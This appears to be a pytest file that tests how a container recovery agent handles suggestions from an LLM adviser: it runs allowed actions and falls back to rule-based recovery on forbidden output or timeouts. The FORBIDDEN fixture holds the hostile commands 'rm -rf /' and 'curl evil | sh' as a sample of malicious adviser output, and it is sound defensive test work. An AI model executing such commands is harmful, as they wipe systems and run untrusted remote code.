"""Recovery with an LLM adviser speaking the chat-completions protocol on loopback."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from support.agent import RECOVERY_ON, AgentHandle, merge, running_agent
from support.chat_server import ChatServer
from support.compose import crash_container
from support.deployments import DeploymentFactory, service
from support.wait import async_wait_until

ALLOWED = """The web container was killed; recreating it gives it a clean state.
```suggestions
[{"kind": "service_action", "service": "web", "action": "recreate",
  "title": "recreate web", "reason": "fresh container"}]
```"""

FORBIDDEN = """Run this to fix it.
```suggestions
[{"kind": "service_action", "service": "web", "action": "exec", "title": "rm -rf /"},
 {"kind": "shell", "service": "web", "action": "start", "command": "curl evil | sh"}]
```"""


def llm_config(chat: ChatServer, timeout: float = 10) -> dict[str, Any]:
    return merge(RECOVERY_ON, {"recovery": {"llm": {
        "url": chat.url, "model": "test-model", "api_key": "sk-local-test-key",
        "timeout_seconds": timeout,
    }}})


async def recovered_run(handle: AgentHandle, name: str) -> dict[str, Any]:
    async def done() -> dict[str, Any] | None:
        runs = (await handle.get("/api/recoveries", params={"deployment": name}))["items"]
        finished = [r for r in runs if r["outcome"] == "recovered"]
        return finished[0] if finished else None

    run: dict[str, Any] = await async_wait_until(done, 90, message="a recovered run")
    return run


async def kill_and_recover(
    tmp_path: Path, deployments: DeploymentFactory, chat: ChatServer, timeout: float = 10
) -> tuple[dict[str, Any], str, str]:
    site = deployments.make("advised", {"web": service("sleep 3600")})
    site.up()
    before = site.container_ids()[0]
    async with running_agent(tmp_path / "data", deployments.root,
                             **llm_config(chat, timeout)) as handle:
        await handle.wait_listed(site.name)
        crash_container(before)
        run = await recovered_run(handle, site.name)
        assert site.states() == {"web": "running"}
        return run, before, site.container_ids()[0]


async def test_an_allowed_llm_suggestion_is_executed(
    tmp_path: Path, deployments: DeploymentFactory, chat: ChatServer
) -> None:
    chat.content = ALLOWED
    run, before, after = await kill_and_recover(tmp_path, deployments, chat)
    assert run["source"] == "llm"
    assert [(a["action"], a["service"]) for a in run["actions"]] == [("recreate", "web")]
    assert "clean state" in run["diagnosis"]["summary"]
    assert after != before  # recreated, not merely started
    assert chat.requests, "the adviser was asked"
    assert "sk-local-test-key" not in chat.requests[0].body.decode()


async def test_forbidden_or_garbage_suggestions_are_ignored_and_the_rules_act(
    tmp_path: Path, deployments: DeploymentFactory, chat: ChatServer
) -> None:
    chat.content = FORBIDDEN
    run, before, after = await kill_and_recover(tmp_path, deployments, chat)
    assert run["source"] == "rules"
    assert [(a["action"], a["service"]) for a in run["actions"]] == [("start", "web")]
    assert after == before  # the rules start the same container


async def test_a_slow_llm_times_out_and_the_rules_act(
    tmp_path: Path, deployments: DeploymentFactory, chat: ChatServer
) -> None:
    chat.hold = True
    run, _, _ = await kill_and_recover(tmp_path, deployments, chat, timeout=1)
    assert run["source"] == "rules"
    assert [(a["action"], a["service"]) for a in run["actions"]] == [("start", "web")]
    assert chat.pending >= 1  # the answer never came
